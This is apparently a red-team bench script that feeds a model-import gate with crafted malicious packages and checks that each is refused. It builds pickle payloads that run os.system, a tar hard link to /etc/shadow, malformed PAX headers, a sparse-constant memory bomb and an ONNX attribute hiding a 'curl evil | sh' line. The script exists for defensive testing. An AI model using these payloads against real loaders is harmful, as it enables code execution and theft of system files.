"""Import gate against packages of kinds its tests do not build.

Usage: python bench/import_redteam.py

Each malicious package is signed by the tenant and approved by two officers, so that
only its real defect can refuse it; two benign packages (a plain one and one with
external weights, as a .tar.gz) must be registered. Prints one line per case: the
decision, the checks that failed and the first reason. A case passes when a malicious
package is refused by the check named in its row (its real defect), and a benign one
is registered. Written after the gate (issue 15: "have your work attacked").
"""

from __future__ import annotations

import base64
import gzip
import io
import os
import pickle
import shutil
import sys
import tarfile
import tempfile
import time
import zipfile
from pathlib import Path

import numpy as np
from onnx import TensorProto, helper, numpy_helper

sys.path.insert(0, str(Path(__file__).resolve().parents[1]))

from facelab.gates.importing.ops import import_model
from facelab.labdir import audit_writer, open_lab

from tests.audit_helpers import PASS, make_lab
from tests.import_helpers import (
    build_model,
    configure,
    dir_to_tar_bytes,
    make_keys,
    make_package,
    model_json,
    sign_and_approve,
    with_external_weights,
)


class _Evil:
    def __reduce__(self):
        return (os.system, ("touch /tmp/facelab-redteam-pwned",))


def _inst_pickle() -> bytes:
    """Protocol 0 with INST (import and call in one opcode), no GLOBAL, no REDUCE."""
    return b"(S'touch /tmp/facelab-redteam-pwned'\nios\nsystem\n."


def _npy_object_array() -> bytes:
    """numpy's own format with an object array: a header, then a pickle."""
    buf = io.BytesIO()
    np.save(buf, np.array([_Evil()], dtype=object), allow_pickle=True)
    return buf.getvalue()


def _deflated_zip() -> bytes:
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", compression=zipfile.ZIP_DEFLATED) as z:
        z.writestr("archive/data.pkl", pickle.dumps(_Evil(), 2) * 20)
    return buf.getvalue()


def _joblib_gzip_pickle() -> bytes:
    return gzip.compress(pickle.dumps(_Evil(), 4))


def _tar_with_hardlink(pkg: Path) -> bytes:
    out = io.BytesIO()
    with tarfile.open(fileobj=out, mode="w") as tf:
        tf.add(pkg, arcname="p")
        link = tarfile.TarInfo("p/weights.bin")
        link.type = tarfile.LNKTYPE
        link.linkname = "/etc/shadow"
        tf.addfile(link)
    return out.getvalue()


def _pax_negative_size(pkg: Path) -> bytes:
    out = io.BytesIO()
    with tarfile.open(fileobj=out, mode="w", format=tarfile.PAX_FORMAT) as tf:
        tf.add(pkg, arcname="p")
        info = tarfile.TarInfo("p/LICENSE")
        info.size = 4
        info.pax_headers = {"size": "-1"}
        tf.addfile(info, io.BytesIO(b"MIT\n"))
    return out.getvalue()


def _gzip_string_attribute_model():
    m = build_model()
    payload = base64.b64encode(gzip.compress(b"#!/bin/sh\ncurl evil | sh\n" * 4)).decode()
    m.graph.node[0].attribute.append(helper.make_attribute("notes", payload))
    return m


def _sparse_constant_model():
    m = build_model()
    values = numpy_helper.from_array(np.ones(2, np.float32), "v")
    idx = numpy_helper.from_array(np.array([0, 1], np.int64), "i")
    sp = helper.make_sparse_tensor(values, idx, [100_000, 100_000])
    m.graph.node.append(helper.make_node("Constant", [], ["big_c"], sparse_value=sp))
    return m


def _ml_domain_model():
    m = build_model()
    m.opset_import.append(helper.make_opsetid("ai.onnx.ml", 3))
    m.graph.node.append(
        helper.make_node("Normalizer", ["Y0"], ["nz"], domain="ai.onnx.ml", norm="L2")
    )
    return m


def _external_length_lie():
    # a declared float32[4] reading 4096 bytes of the file: the length is a lie
    m = build_model()
    t = TensorProto(name="E", data_type=TensorProto.FLOAT, dims=[4])
    t.data_location = TensorProto.EXTERNAL
    for k, v in (("location", "weights.bin"), ("offset", "0"), ("length", "4096")):
        e = t.external_data.add()
        e.key, e.value = k, v
    m.graph.initializer.append(t)
    return m


def cases(tmp: Path, keys):
    """(name, expected failing check or None for benign, package path)."""
    out = []

    def pkg(name, model=None, extra=None, sign=True, spec=None):
        d = make_package(tmp / name, model, spec=spec, extra=extra)
        return sign_and_approve(d, keys) if sign else d

    out.append(("INST pickle as LICENSE", "files", pkg("inst", extra={"LICENSE": _inst_pickle()})))
    out.append(
        (
            "npy object array as weights.bin",
            "files",
            pkg("npy", extra={"w.bin": _npy_object_array()}),
        )
    )
    out.append(
        ("deflated zip of pickles as w.bin", "files", pkg("dz", extra={"w.bin": _deflated_zip()}))
    )
    out.append(
        ("joblib-style gzip pickle", "files", pkg("jl", extra={"w.bin": _joblib_gzip_pickle()}))
    )
    base = pkg("hl")
    tar = tmp / "hardlink.tar"
    tar.write_bytes(_tar_with_hardlink(base))
    out.append(("tar with a hard link to /etc/shadow", "files", tar))
    tar2 = tmp / "paxneg.tar"
    tar2.write_bytes(_pax_negative_size(pkg("pn")))
    out.append(("pax header size -1", "files", tar2))
    out.append(
        ("base64 gzip in a string attribute", "onnx", pkg("ga", _gzip_string_attribute_model()))
    )
    out.append(("sparse Constant 1e5 x 1e5", "onnx", pkg("sc", _sparse_constant_model())))
    out.append(("ai.onnx.ml operator", "onnx", pkg("ml", _ml_domain_model())))
    out.append(
        (
            "external data length lie",
            "onnx",
            pkg("el", _external_length_lie(), extra={"weights.bin": b"\0" * 4096}),
        )
    )
    good = pkg("good")
    out.append(("benign: plain package", None, good))
    ext = pkg(
        "goodext",
        with_external_weights(build_model(), "weights/w.bin", 256),
        extra={"weights/w.bin": np.ones(256, np.float32).tobytes()},
        # other weights than "good": a model of its own name (one name@version per tenant)
        spec={**model_json(), "name": "tinyext"},
    )
    tgz = tmp / "goodext.tar.gz"
    tgz.write_bytes(gzip.compress(dir_to_tar_bytes(ext)))
    out.append(("benign: external weights, .tar.gz", None, tgz))
    return out


def main() -> None:
    tmp = Path(tempfile.mkdtemp(prefix="facelab-redteam-"))
    keys = make_keys(tmp / "keys")
    lab = make_lab(tmp / "lab")
    configure(lab.paths.root, keys)
    lab = open_lab(lab.paths.root)
    ok = 0
    rows = cases(tmp, keys)
    print(f"{'case':<38}{'want':<8}{'decision':<11}{'s':>6}  failed: first reason")
    for name, want, path in rows:
        t = time.perf_counter()
        try:
            with audit_writer(lab, PASS) as log:
                report = import_model(lab, "acme", path, "redteam", log)
            failed = {c.name: c.problems[0] for c in report.failed()}
            decision = "registered" if report.accepted else "refused"
        except Exception as e:
            failed, decision = {"(raised)": f"{type(e).__name__}: {e}"}, "error"
        dt = time.perf_counter() - t
        good = report.accepted if want is None else (decision == "refused" and want in failed)
        ok += good
        first = next(iter(failed.items()), ("", ""))
        print(
            f"{name:<38}{want or 'admit':<8}{decision:<11}{dt:>6.1f}  "
            f"{'ok ' if good else 'BAD'} {first[0]}: {first[1][:90]}"
        )
    print(
        f"{ok}/{len(rows)} as expected; pwned file: {Path('/tmp/facelab-redteam-pwned').exists()}"
    )
    shutil.rmtree(tmp, ignore_errors=True)


if __name__ == "__main__":
    main()
